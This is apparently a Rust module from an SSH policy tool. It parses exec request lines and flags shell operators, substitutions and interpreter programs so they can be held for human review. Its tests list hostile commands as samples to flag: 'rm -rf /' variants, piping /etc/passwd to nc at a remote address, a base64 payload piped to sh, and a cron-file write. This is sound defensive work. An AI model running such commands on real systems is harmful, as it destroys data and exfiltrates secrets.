//! What an SSH exec request asks the remote shell to run, as policy sees
//! it: the program, its arguments, and whether the line uses shell
//! features that make the first word meaningless (`ls; rm -rf /`,
//! `$(curl …)`, `echo … | base64 -d | sh`).
//!
//! The remote side runs the line through the user's shell, so a line is
//! only "just a program with arguments" when it has no operator,
//! substitution, redirection or expansion outside quotes, and its program
//! is not itself a shell or an evaluator. Everything else is flagged, and
//! the default policies hold flagged commands for a human.

use serde::Serialize;

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct ExecCommand {
    /// The line as sent.
    pub line: String,
    /// First word after shell-words splitting, without a directory
    /// (`/usr/bin/git-upload-pack` → `git-upload-pack`); empty if the line
    /// does not split.
    pub program: String,
    pub args: Vec<String>,
    /// The line uses shell features that defeat parsing.
    pub shell_features: bool,
}

/// Programs that run their arguments as code.
const EVALUATORS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "fish", "csh", "tcsh", "busybox", "eval", "exec", "env",
    "xargs", "python", "python3", "perl", "ruby", "node", "php", "awk", "sudo", "su", "nohup",
    "timeout", "nice", "setsid", "script",
];

pub fn parse(line: &str) -> ExecCommand {
    let words = shell_words::split(line);
    let (program, args, split_ok) = match words {
        Ok(w) if !w.is_empty() => {
            let program = w[0].rsplit('/').next().unwrap_or_default().to_string();
            (program, w[1..].to_vec(), true)
        }
        _ => (String::new(), Vec::new(), false),
    };
    let shell_features =
        !split_ok || has_unquoted_operator(line) || EVALUATORS.contains(&program.as_str());
    ExecCommand {
        line: line.to_string(),
        program,
        args,
        shell_features,
    }
}

/// Operators, substitutions, redirections, expansions and globs outside
/// single quotes (inside double quotes `$` and backquotes still expand).
fn has_unquoted_operator(line: &str) -> bool {
    let mut single = false;
    let mut double = false;
    let mut escaped = false;
    for c in line.chars() {
        if escaped {
            escaped = false;
            continue;
        }
        match c {
            '\\' if !single => escaped = true,
            '\'' if !double => single = !single,
            '"' if !single => double = !double,
            '$' | '`' if !single => return true,
            ';' | '|' | '&' | '<' | '>' | '(' | ')' | '\n' | '\r' | '*' | '?' | '[' | '{' | '~'
            | '#'
                if !single && !double =>
            {
                return true
            }
            _ => {}
        }
    }
    single || double
}

#[cfg(test)]
mod tests {
    use super::*;

    fn flagged(line: &str) -> bool {
        parse(line).shell_features
    }

    #[test]
    fn plain_commands_are_program_and_arguments() {
        let c = parse("git-upload-pack '/srv/git/app.git'");
        assert_eq!(c.program, "git-upload-pack");
        assert_eq!(c.args, vec!["/srv/git/app.git"]);
        assert!(!c.shell_features);
        let c = parse("/usr/bin/rsync --server -vlogDtpre.iLsfxCIvu . /srv/app/");
        assert_eq!(c.program, "rsync");
        assert_eq!(c.args[0], "--server");
        assert!(!c.shell_features);
        assert!(!flagged("scp -t /tmp/x"));
        assert!(!flagged("rm -rf /srv/app"));
        assert_eq!(parse("rm -rf /srv/app").program, "rm");
        assert!(!flagged("echo 'a; b | c $(d)'"), "inside single quotes");
    }

    #[test]
    fn shell_features_are_flagged() {
        for line in [
            "ls; rm -rf /",
            "true && rm -rf /",
            "false || rm -rf /",
            "cat /etc/passwd | nc 10.0.0.1 9",
            "echo cm0gLXJmIC8= | base64 -d | sh",
            "echo $(id)",
            "echo `id`",
            "echo \"$HOME\"",
            "rm -rf /srv/*",
            "cat > /etc/cron.d/x",
            "sleep 1 &",
            "(cd / && rm -rf x)",
            "eval rm -rf /",
            "sh -c 'rm -rf /'",
            "bash -c id",
            "/bin/sh -c id",
            "env X=1 rm -rf /",
            "sudo rm -rf /",
            "python3 -c 'import os'",
            "echo 'unbalanced",
            "ls ~root",
            "ls\nrm -rf /",
            "",
        ] {
            assert!(flagged(line), "{line:?} should be flagged");
        }
    }
}
